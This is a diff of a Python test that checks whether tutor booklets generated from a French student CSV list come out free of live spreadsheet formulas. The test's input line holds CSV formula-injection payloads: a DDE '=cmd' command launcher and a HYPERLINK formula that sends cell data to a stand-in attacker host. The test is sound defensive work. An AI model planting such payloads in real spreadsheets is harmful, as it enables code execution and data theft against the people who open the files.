@@ -147,7 +147,7 @@ def test_booklets_for_tutors_hold_no_live_formula(run, sample_bank, tmp_path):
     path = tmp_path / "liste.csv"
     path.write_text('nom;prénom;classe;entreprise;tuteur\n=cmd|\' /C calc\'!A0;+1+1;1MCVB;'
                     '"=HYPERLINK(""http://evil.example/?x=""&B2,""clic"")";@SUM(1)\n', encoding="utf-8")
-    code, _, err = livrets(run, path, sample_bank, tmp_path / "out")
+    code, _, _ = livrets(run, path, sample_bank, tmp_path / "out")
     [xlsx] = (tmp_path / "out").glob("*.xlsx")
     assert code == 0 and live_xlsx_cells(xlsx) == []
 
